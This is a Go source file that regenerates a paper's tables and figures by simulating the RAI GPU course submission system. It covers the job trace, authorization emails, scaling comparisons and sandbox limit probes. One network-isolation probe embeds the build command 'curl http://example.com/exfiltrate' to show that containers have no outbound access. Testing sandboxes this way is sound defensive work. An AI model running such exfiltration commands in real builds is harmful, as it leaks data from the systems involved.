// Command raisim regenerates every table and figure of the paper from
// the reproduction: Table I, the Figure 1 architecture trace, Listings
// 1–3, the Figure 2 runtime histogram, the Figure 3 download matrix, the
// Figure 4 submission timeline, the §VII aggregate statistics and
// resource-usage phases, the fixed-vs-elastic provisioning baseline, and
// the §V container-limit probes.
//
// Usage:
//
//	raisim [-seed 408] table1|figure1|figure2|figure3|figure4|
//	       listing1|listing2|listing3|stats|scaling|baseline|limits|all
package main

import (
	"bytes"
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"time"

	"rai/internal/auth"
	"rai/internal/build"
	"rai/internal/cnn"
	"rai/internal/core"
	"rai/internal/objstore"
	"rai/internal/project"
	"rai/internal/release"
	"rai/internal/sandbox"
	"rai/internal/scaling"
	"rai/internal/sim"
	"rai/internal/workload"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

var artifacts = []string{
	"table1", "figure1", "listing1", "listing2", "listing3",
	"figure2", "figure3", "figure4", "stats", "scaling", "baseline", "limits",
}

func run(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raisim", flag.ContinueOnError)
	fs.SetOutput(stderr)
	seed := fs.Uint64("seed", 408, "course generation seed")
	outDir := fs.String("o", "", "also write each artifact to <dir>/<name>.txt")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if fs.NArg() != 1 {
		fmt.Fprintf(stderr, "usage: raisim [-seed N] %s|all\n", strings.Join(artifacts, "|"))
		return 2
	}
	want := fs.Arg(0)
	todo := []string{want}
	if want == "all" {
		todo = artifacts
	}
	cfg := workload.Fall2016()
	cfg.Seed = *seed
	var course *workload.Course // built lazily: several artifacts share it
	getCourse := func() *workload.Course {
		if course == nil {
			course = workload.Generate(cfg)
		}
		return course
	}
	if *outDir != "" {
		if err := os.MkdirAll(*outDir, 0o755); err != nil {
			fmt.Fprintf(stderr, "raisim: %v\n", err)
			return 1
		}
	}
	for i, name := range todo {
		if i > 0 {
			fmt.Fprintln(stdout)
		}
		text, err := render(name, *seed, getCourse)
		if err != nil {
			fmt.Fprintf(stderr, "raisim %s: %v\n", name, err)
			return 1
		}
		fmt.Fprint(stdout, text)
		if *outDir != "" {
			path := filepath.Join(*outDir, name+".txt")
			if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
				fmt.Fprintf(stderr, "raisim: writing %s: %v\n", path, err)
				return 1
			}
		}
	}
	return 0
}

// render produces one artifact. What it prints depends on seed alone,
// job IDs and issued keys included, so a run repeats byte for byte.
func render(name string, seed uint64, getCourse func() *workload.Course) (string, error) {
	switch name {
	case "table1":
		return "Table I — existing programming and submission systems\n" + sim.FormatTable1(), nil
	case "figure1":
		return figure1Trace(seed)
	case "listing1":
		return "Listing 1 — default rai-build.yml (used when the student has none)\n\n" + string(build.Default().Encode()), nil
	case "listing2":
		return "Listing 2 — enforced final-submission build file\n\n" + string(build.Submission().Encode()), nil
	case "listing3":
		return listing3Email(seed)
	case "figure2":
		res, err := sim.Figure2(context.Background(), getCourse())
		if err != nil {
			return "", err
		}
		return res.Text, nil
	case "figure3":
		return figure3Table()
	case "figure4":
		return sim.Figure4(getCourse()).Text, nil
	case "stats":
		s, err := sim.Stats(getCourse())
		if err != nil {
			return "", err
		}
		return s.Text, nil
	case "scaling":
		_, text, err := sim.ResourceUsagePhases(getCourse())
		if err != nil {
			return "", err
		}
		return "§VII resource-usage phases\n" + text, nil
	case "baseline":
		course := getCourse()
		from := course.Cfg.Deadline.Add(-14 * 24 * time.Hour)
		to := course.Cfg.Deadline.Add(time.Hour)
		_, text, err := sim.ComparePolicies(course, from, to, []scaling.Policy{
			scaling.FixedPolicy{N: 4},
			scaling.FixedPolicy{N: 10},
			scaling.FixedPolicy{N: 30},
			scaling.ElasticPolicy{Min: 4, Max: 30, SlotsPerInstance: 1},
		})
		if err != nil {
			return "", err
		}
		return "Deadline-burst queueing: fixed cluster vs elastic RAI (final two weeks)\n" + text, nil
	case "limits":
		return limitProbes(seed)
	default:
		return "", fmt.Errorf("unknown artifact %q", name)
	}
}

// figure1Trace runs one job through the full in-process deployment and
// narrates the component interactions of the paper's Figure 1.
func figure1Trace(seed uint64) (string, error) {
	var b strings.Builder
	b.WriteString("Figure 1 — system architecture trace (one job end to end)\n\n")
	d, err := sim.NewDeployment(sim.DeployConfig{Seed: seed})
	if err != nil {
		return "", err
	}
	defer d.Close()
	var term bytes.Buffer
	c, err := d.NewClient("demo-team", &term)
	if err != nil {
		return "", err
	}
	fmt.Fprintf(&b, "client     : credentials issued for %s\n", c.Creds.UserName)
	res, err := d.RunSubmission(context.Background(), c, workload.Submission{
		Time: d.Clock.Now().Add(time.Minute), Team: "demo-team", Kind: core.KindRun,
		Spec: project.Spec{Impl: cnn.ImplIm2col, Tuning: 1, Team: "demo-team"},
	})
	if err != nil {
		return "", err
	}
	fmt.Fprintf(&b, "client     : project archive uploaded to file server (%s bucket)\n", core.BucketUploads)
	fmt.Fprintf(&b, "broker     : job published on %s/%s; worker accepted it\n", core.TasksTopic, core.TasksChannel)
	fmt.Fprintf(&b, "worker     : container executed the build; output streamed on %s\n", core.LogTopic(res.JobID))
	fmt.Fprintf(&b, "file server: /build archived at %s/%s\n", res.BuildBucket, res.BuildKey)
	fmt.Fprintf(&b, "database   : job %s recorded with status %s\n", res.JobID, res.Status)
	fmt.Fprintf(&b, "\nstreamed terminal output (%d lines):\n", res.LogLines)
	for _, line := range strings.Split(strings.TrimRight(term.String(), "\n"), "\n") {
		fmt.Fprintf(&b, "  | %s\n", line)
	}
	return b.String(), nil
}

// listing3Email renders the authorization email for a sample student.
func listing3Email(seed uint64) (string, error) {
	reg := auth.NewRegistry()
	reg.SetRand(rand.New(rand.NewSource(int64(seed))))
	outbox := &auth.Outbox{}
	mailer := &auth.KeyMailer{Registry: reg, Outbox: outbox}
	if _, err := mailer.Run([]auth.Student{{FirstName: "FirstName", LastName: "LastName", UserID: "myusername"}}); err != nil {
		return "", err
	}
	m := outbox.Messages()[0]
	return fmt.Sprintf("Listing 3 — authorization email\n\nTo: %s\nSubject: %s\n\n%s", m.To, m.Subject, m.Body), nil
}

// figure3Table builds both branches through the CI model and renders the
// download matrix.
func figure3Table() (string, error) {
	store := objstore.New()
	ci := release.NewCI("rai-client", "https://files.rai-project.com", ciUploader{store})
	ci.Now = func() time.Time { return time.Date(2016, 11, 20, 6, 0, 0, 0, time.UTC) }
	if _, err := ci.Push(release.BranchStable, "4f2a91c", "0.2.1"); err != nil {
		return "", err
	}
	if _, err := ci.Push(release.BranchDevel, "8c17d2e", "0.3.0-dev"); err != nil {
		return "", err
	}
	return "Figure 3 — client download matrix (continuous builds of master and devel)\n\n" +
		release.FormatTable(ci.Table()), nil
}

type ciUploader struct{ s *objstore.Store }

func (u ciUploader) Put(bucket, key string, data []byte, ttl time.Duration) error {
	return u.s.Put(context.Background(), bucket, key, data, ttl)
}

// limitProbes demonstrates the §V container limits end to end.
func limitProbes(seed uint64) (string, error) {
	var b strings.Builder
	b.WriteString("§V container limits — enforcement probes\n\n")
	d, err := sim.NewDeployment(sim.DeployConfig{Seed: seed})
	if err != nil {
		return "", err
	}
	defer d.Close()

	// Probe 1: the 30 s rate limit.
	c, err := d.NewClient("probe-team", io.Discard)
	if err != nil {
		return "", err
	}
	at := d.Clock.Now().Add(time.Minute)
	first, err := d.RunSubmission(context.Background(), c, workload.Submission{
		Time: at, Team: "probe-team", Kind: core.KindRun,
		Spec: project.Spec{Impl: cnn.ImplTiled, Team: "probe-team"},
	})
	if err != nil {
		return "", err
	}
	_, err = d.RunSubmission(context.Background(), c, workload.Submission{
		Time: at.Add(5 * time.Second), Team: "probe-team", Kind: core.KindRun,
		Spec: project.Spec{Impl: cnn.ImplTiled, Team: "probe-team"},
	})
	rateLimited := errors.Is(err, core.ErrRejected)
	fmt.Fprintf(&b, "rate limit  : first job %s; resubmit after 5s rejected=%v (30s spacing enforced)\n", first.Status, rateLimited)

	// Probe 2: memory limit (oom kernel).
	oom, err := d.RunSubmission(context.Background(), c, workload.Submission{
		Time: at.Add(2 * time.Minute), Team: "probe-team", Kind: core.KindRun,
		Spec: project.Spec{Impl: cnn.ImplIm2col, Bug: "oom", Team: "probe-team"},
	})
	if err != nil {
		return "", err
	}
	fmt.Fprintf(&b, "memory      : 64 GiB allocation against the %d GiB cap -> job %s\n", sandbox.DefaultMemoryBytes>>30, oom.Status)

	// Probe 3: lifetime limit (hanging kernel).
	hang, err := d.RunSubmission(context.Background(), c, workload.Submission{
		Time: at.Add(4 * time.Minute), Team: "probe-team", Kind: core.KindRun,
		Spec: project.Spec{Impl: cnn.ImplIm2col, Bug: "hang", Team: "probe-team"},
	})
	if err != nil {
		return "", err
	}
	fmt.Fprintf(&b, "lifetime    : non-terminating kernel reaped at the %v cap -> job %s (charged %0.fs)\n",
		sandbox.DefaultLifetime, hang.Status, hang.Elapsed.Seconds())

	// Probe 4: network isolation.
	netSpec := &build.Spec{RAI: build.Section{
		Version: "0.1", Image: "webgpu/rai:root",
		Commands: build.Commands{Build: []string{"curl http://example.com/exfiltrate"}},
	}}
	d.Clock.Advance(2 * time.Minute)
	netRes, err := submitRaw(d, c, netSpec, project.Spec{Impl: cnn.ImplTiled, Team: "probe-team"})
	if err != nil {
		return "", err
	}
	fmt.Fprintf(&b, "network     : curl inside the container -> job %s (no network access)\n", netRes.Status)
	return b.String(), nil
}

// submitRaw submits proj under an explicit build spec (RunSubmission
// always uses the project's own) and lets the first worker handle it.
func submitRaw(d *sim.Deployment, c *core.Client, spec *build.Spec, proj project.Spec) (*core.JobResult, error) {
	m, src, err := sim.ProjectManifest(proj)
	if err != nil {
		return nil, err
	}
	type out struct {
		res *core.JobResult
		err error
	}
	ctx := context.Background()
	done := make(chan out, 1)
	go func() {
		res, err := c.Submit(ctx, core.KindRun, spec, m, src)
		done <- out{res, err}
	}()
	if _, err := d.Workers()[0].HandleOne(ctx, 10*time.Second); err != nil {
		return nil, err
	}
	o := <-done
	return o.res, o.err
}
